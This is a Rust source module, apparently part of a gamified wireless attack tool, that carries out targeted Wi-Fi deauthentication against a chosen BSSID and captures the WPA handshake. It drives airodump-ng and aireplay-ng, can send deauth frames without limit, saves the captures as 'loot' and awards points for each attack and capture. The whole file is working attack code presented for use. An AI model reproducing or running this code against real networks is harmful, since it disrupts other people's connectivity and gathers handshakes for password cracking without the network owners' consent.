//! Targeted deauthentication with handshake capture.

use std::collections::HashSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::json;

use pwrlvl_core::{EventLevel, ProcessSpec};

use super::path_arg;
use crate::context::OperationContext;
use crate::error::OperationError;
use crate::loot::file_name;
use crate::operation::Operation;
use crate::params::Params;
use crate::progress::Tally;
use crate::settings::EngineSettings;

const SETTLE: Duration = Duration::from_secs(2);
const HANDSHAKE_WAIT: Duration = Duration::from_secs(15);

pub struct Attack;

impl Operation for Attack {
    fn name(&self) -> &'static str {
        "attack"
    }

    fn prepare(&self, raw: &Params, settings: &EngineSettings) -> Result<Params, OperationError> {
        Ok(Params::new()
            .with("bssid", raw.required_mac("bssid")?)
            .with("channel", raw.number_or("channel", 1)?)
            .with("iface", raw.interface_or("iface", &settings.default_iface)?)
            .with("count", raw.number_or("count", 0)?))
    }

    fn accepted(&self, params: &Params) -> String {
        format!("Attack started → {}", params.text_or("bssid", ""))
    }

    fn start_event(&self, params: &Params) -> (EventLevel, String) {
        (
            EventLevel::Attack,
            format!(
                "Starting deauth → {} ch{} on {}",
                params.text_or("bssid", ""),
                params.text_or("channel", "1"),
                params.text_or("iface", "")
            ),
        )
    }

    fn error_label(&self) -> &'static str {
        "Attack"
    }

    fn run(&self, ctx: &OperationContext, params: &Params) -> Result<(), OperationError> {
        let bssid = params.text_or("bssid", "");
        let channel = params.number_or("channel", 1)?;
        let iface = params.text_or("iface", &ctx.settings().default_iface);
        let count = params.number_or("count", 0)?;

        ctx.award(10, "attack started");
        ctx.bump(Tally::Attacks);
        ctx.set_field("bssid", bssid.as_str());
        ctx.set_field("iface", iface.as_str());

        let airodump = ctx.require(&["airodump-ng"])?;
        let aireplay = ctx.require(&["aireplay-ng"])?;

        ctx.set_monitor(&iface, true);
        ctx.set_channel(&iface, channel);

        let base = ctx
            .loot()
            .handshake_dir()
            .join(format!("cap_{}", bssid.replace(':', "")));
        // airodump numbers its files; earlier captures of the same target stay untouched
        let previous: HashSet<PathBuf> = capture_files(&base).into_iter().collect();
        let channel_arg = channel.to_string();
        let base_arg = path_arg(&base);
        ctx.spawn(
            Some("capture"),
            ProcessSpec::new(airodump).args([
                "-c",
                channel_arg.as_str(),
                "--bssid",
                bssid.as_str(),
                "--output-format",
                "pcap",
                "--write",
                base_arg.as_str(),
                iface.as_str(),
            ]),
        )?;

        if ctx.sleep(SETTLE) {
            let burst = if count > 0 {
                count.to_string()
            } else {
                "∞".to_string()
            };
            ctx.publish(
                EventLevel::Attack,
                format!("Sending deauth frames (burst={burst})..."),
            );
            let count_arg = count.to_string();
            let deauth = ctx.spawn(
                Some("deauth"),
                ProcessSpec::new(aireplay).args([
                    "--deauth",
                    count_arg.as_str(),
                    "-a",
                    bssid.as_str(),
                    iface.as_str(),
                ]),
            )?;

            if count > 0 {
                while deauth.is_running() && ctx.sleep(ctx.settings().poll_interval) {}
                if ctx.is_running() {
                    ctx.publish(
                        EventLevel::Attack,
                        "Deauth burst complete, watching for handshake...",
                    );
                    ctx.sleep(HANDSHAKE_WAIT);
                }
            } else {
                while ctx.sleep(SETTLE) {}
            }
        }

        ctx.finish(Some("deauth"));
        ctx.finish(Some("capture"));
        report_capture(ctx, new_capture(&base, &previous));
        Ok(())
    }
}

/// `<base>-NN.cap` files in name order.
fn capture_files(base: &Path) -> Vec<PathBuf> {
    let (Some(dir), Some(stem)) = (base.parent(), base.file_name()) else {
        return Vec::new();
    };
    let prefix = format!("{}-", stem.to_string_lossy());
    let Ok(entries) = fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut files: Vec<PathBuf> = entries
        .filter_map(Result::ok)
        .map(|entry| entry.path())
        .filter(|path| {
            let name = file_name(path);
            path.is_file() && name.starts_with(&prefix) && name.ends_with(".cap")
        })
        .collect();
    files.sort();
    files
}

/// The newest capture written since `previous` was taken.
fn new_capture(base: &Path, previous: &HashSet<PathBuf>) -> Option<PathBuf> {
    capture_files(base)
        .into_iter()
        .rev()
        .find(|path| !previous.contains(path))
}

fn report_capture(ctx: &OperationContext, capture: Option<PathBuf>) {
    if let Some(capture) = capture {
        let name = file_name(&capture);
        ctx.award(50, "handshake captured");
        ctx.bump(Tally::Captures);
        ctx.set_result(json!({ "file": name }));
        ctx.publish(EventLevel::Attack, format!("Capture saved: {name}"));
    } else {
        ctx.publish(EventLevel::Warn, "No capture file created");
    }
}
